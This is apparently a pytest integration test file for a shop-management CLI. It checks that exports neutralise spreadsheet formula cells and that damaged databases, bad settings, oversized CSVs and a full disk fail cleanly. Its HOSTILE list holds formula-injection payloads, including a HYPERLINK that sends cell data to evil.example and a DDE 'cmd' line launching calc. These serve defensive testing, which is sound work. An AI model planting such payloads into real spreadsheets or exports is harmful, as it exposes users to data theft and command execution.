"""Hostile and broken files: formula cells in exports, a damaged or empty database, settings
that are not UTF-8, a huge stock CSV and a full disk. Each gets one clear line and a
documented exit code, no traceback, bounded memory, and nothing written half."""

from __future__ import annotations

import csv
import os
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from app.sandbox import SandboxConfig, running_sandbox
from tests.integration.cli_support import ROOT, Cli

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    with running_sandbox(SandboxConfig(seed=81, orders=400, products=6)) as info:
        cli = Cli(tmp_path_factory.mktemp("hostile") / "home", info)
        cli.connect()
        cli.run("import", "--days", "90")
        cli.run("stock", "push")  # reads the catalogue
        yield cli


def clean_run(cli: Cli, *args: str, home: Path | None = None, **kw) -> subprocess.CompletedProcess:
    env = {**cli.env, "SHOPDESK_HOME": str(home or cli.home)}
    proc = subprocess.run(
        cli.argv(*args), env=env, cwd=ROOT, capture_output=True, text=True, timeout=300, **kw
    )
    assert "Traceback" not in proc.stderr, proc.stderr[-2000:]
    return proc


def copy_home(cli: Cli, tmp_path: Path) -> Path:
    db = sqlite3.connect(cli.home / "shopdesk.db", timeout=30)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    db.close()
    home = tmp_path / "copy"
    shutil.copytree(cli.home, home)
    return home


def test_exports_neutralise_cells_a_spreadsheet_would_run(shop: Cli, tmp_path: Path) -> None:
    home = copy_home(shop, tmp_path)
    db = sqlite3.connect(home / "shopdesk.db")
    orders = [r[0] for r in db.execute("SELECT id FROM orders ORDER BY id")]
    for n, order in enumerate(orders):
        db.execute(
            "UPDATE orders SET buyer_name = ?, sku_summary = ? WHERE id = ?",
            [HOSTILE[n % len(HOSTILE)], HOSTILE[(n + 1) % len(HOSTILE)], order],
        )
    for n, (product,) in enumerate(db.execute("SELECT id FROM products").fetchall()):
        db.execute(
            "UPDATE products SET title = ? WHERE id = ?", [HOSTILE[n % len(HOSTILE)], product]
        )
    db.execute("UPDATE skus SET name = ?", [HOSTILE[0]])
    db.commit()
    db.close()
    risky, texts = [], []
    for what in ("orders", "stock"):
        out = tmp_path / f"{what}.csv"
        assert clean_run(shop, "export", what, "--out", str(out), home=home).returncode == 0
        with out.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        for row in rows[1:]:
            for cell in row:
                if cell.startswith(FORMULA_STARTS) and not _number(cell):
                    risky.append((what, cell))
        texts.append(out.read_text(encoding="utf-8"))
    assert not risky, f"{len(risky)} cells a spreadsheet would run, e.g. {risky[:3]}"
    assert all("'=HYPERLINK(" in text for text in texts)  # kept readable, just not runnable


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell


def test_a_damaged_database_is_refused_with_what_to_do(shop: Cli, tmp_path: Path) -> None:
    home = copy_home(shop, tmp_path)
    path = home / "shopdesk.db"
    size = path.stat().st_size
    page = 4096
    with path.open("r+b") as handle:  # scribble over pages in the middle of the file
        for offset in range(size // 2 // page * page, size // 2 + 6 * page, page):
            handle.seek(offset + 100)
            handle.write(os.urandom(page - 200))
    for args in (
        ("sync", "--once"),
        ("status",),
        ("export", "orders", "--out", str(tmp_path / "o.csv")),
        ("stock", "set", "X", "1"),
    ):
        proc = clean_run(shop, *args, home=home)
        assert proc.returncode != 0, f"{args} exited 0 on a damaged database: {proc.stdout}"
        assert "damaged" in proc.stderr and "shopdesk restore" in proc.stderr, (args, proc.stderr)
        assert len(proc.stderr.strip().splitlines()) <= 2, proc.stderr


def test_an_empty_database_file_is_refused_with_what_to_do(shop: Cli, tmp_path: Path) -> None:
    home = copy_home(shop, tmp_path)
    (home / "shopdesk.db").write_bytes(b"")
    for name in ("shopdesk.db-wal", "shopdesk.db-shm"):
        (home / name).unlink(missing_ok=True)
    for args in (
        ("status",),
        ("sync", "--once"),
        ("export", "stock", "--out", str(tmp_path / "s.csv")),
    ):
        proc = clean_run(shop, *args, home=home)
        assert proc.returncode != 0, args
        assert "empty" in proc.stderr and "shopdesk restore" in proc.stderr, (args, proc.stderr)
    assert (home / "shopdesk.db").stat().st_size == 0  # left as it was for the user to decide


def test_settings_that_are_not_utf8_are_one_clear_line(shop: Cli, tmp_path: Path) -> None:
    home = copy_home(shop, tmp_path)
    (home / "settings.json").write_bytes('{"app_key": "caf\xe9"}'.encode("latin-1"))
    for args in (("sync", "--once"), ("stock", "push")):
        proc = clean_run(shop, *args, home=home)
        assert proc.returncode == 2, (args, proc.stderr)
        assert "settings.json" in proc.stderr and "UTF-8" in proc.stderr
        assert len(proc.stderr.strip().splitlines()) == 1


#: Runs the command and reports its peak memory. A child forked straight from pytest would
#: count pytest's own memory (inherited until exec) in its peak; one forked from this small
#: wrapper counts only the wrapper's few megabytes.
MEASURE = (
    "import resource, subprocess, sys\n"
    "code = subprocess.run(sys.argv[2:]).returncode\n"
    "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss\n"
    "open(sys.argv[1], 'w').write(str(peak))\n"
    "sys.exit(code)\n"
)


def _peak_rss_mb(argv: list[str], env: dict[str, str], tmp: Path) -> tuple[int, str, float]:
    """(exit code, stderr, peak resident MB) of the command."""
    peak = tmp / "peak.txt"
    proc = subprocess.run(
        [sys.executable, "-c", MEASURE, str(peak), *argv],
        env=env,
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    )
    return proc.returncode, proc.stderr, int(peak.read_text()) / 1024


@pytest.mark.timeout(300)
def test_a_huge_stock_csv_is_refused_in_bounded_memory(shop: Cli, tmp_path: Path) -> None:
    home = copy_home(shop, tmp_path)
    big = tmp_path / "huge.csv"
    with big.open("w", encoding="utf-8") as handle:
        handle.write("seller_sku,on_hand\n")
        for n in range(2_000_000):
            handle.write(f"NO-SUCH-SKU-{n:08d},{n % 50}\n")
    assert big.stat().st_size > 40_000_000
    env = {**shop.env, "SHOPDESK_HOME": str(home)}
    before = (
        sqlite3.connect(home / "shopdesk.db")
        .execute("SELECT count(*) FROM stock_movements")
        .fetchone()[0]
    )
    code, stderr, peak = _peak_rss_mb(shop.argv("stock", "import", str(big)), env, tmp_path)
    assert peak < 250, f"peak memory {peak:.0f} MB"
    assert code == 2, stderr[-500:]
    assert "Traceback" not in stderr
    lines = stderr.strip().splitlines()
    assert len(lines) <= 60, f"{len(lines)} lines of problems printed"
    assert "2,000,000 problems" in stderr and "more" in stderr
    after = (
        sqlite3.connect(home / "shopdesk.db")
        .execute("SELECT count(*) FROM stock_movements")
        .fetchone()[0]
    )
    assert after == before


#: Room for SQLite's 32 KiB shared-memory file, not for the export or the edits' journal.
LIMIT = 40 * 1024


def _limited(max_bytes: int):
    def apply() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # stays ignored across exec
        resource.setrlimit(resource.RLIMIT_FSIZE, (max_bytes, max_bytes))

    return apply


def full_disk(shop: Cli, env: dict[str, str], *args: str) -> None:
    """Run a command that cannot write past LIMIT bytes: one clear line, exit 1."""
    proc = subprocess.run(
        shop.argv(*args),
        env=env,
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=_limited(LIMIT),
    )
    assert proc.returncode == 1, (args, proc.stderr)
    assert "Traceback" not in proc.stderr and "disk" in proc.stderr.lower()
    assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr


def test_a_full_disk_is_one_clear_line_and_nothing_half_written(shop: Cli, tmp_path: Path) -> None:
    home = copy_home(shop, tmp_path)
    shutil.rmtree(home / "logs")
    (home / "logs").mkdir()
    env = {**shop.env, "SHOPDESK_HOME": str(home)}
    out = tmp_path / "orders.csv"
    full_disk(shop, env, "export", "orders", "--out", str(out))
    assert not out.exists() and not list(tmp_path.glob("orders.csv*")), "half a file was left"

    db = sqlite3.connect(home / "shopdesk.db")
    movements = db.execute("SELECT count(*) FROM stock_movements").fetchone()[0]
    codes = [
        r[0] for r in db.execute("SELECT DISTINCT seller_sku FROM skus WHERE seller_sku != ''")
    ]
    # Frames nobody checkpoints yet: the edit's own must go after them, past the limit.
    db.execute("PRAGMA wal_autocheckpoint = 0")
    db.execute("UPDATE order_raw SET raw = raw || ' '")
    db.commit()
    assert (home / "shopdesk.db-wal").stat().st_size > LIMIT
    counts = tmp_path / "counts.csv"
    counts.write_text(
        "seller_sku,on_hand\n" + "".join(f"{c},{n + 70}\n" for n, c in enumerate(codes))
    )
    full_disk(shop, env, "stock", "import", str(counts))
    db.close()
    db = sqlite3.connect(home / "shopdesk.db")
    assert db.execute("PRAGMA quick_check").fetchone()[0] == "ok"
    assert db.execute("SELECT count(*) FROM stock_movements").fetchone()[0] == movements
    db.close()
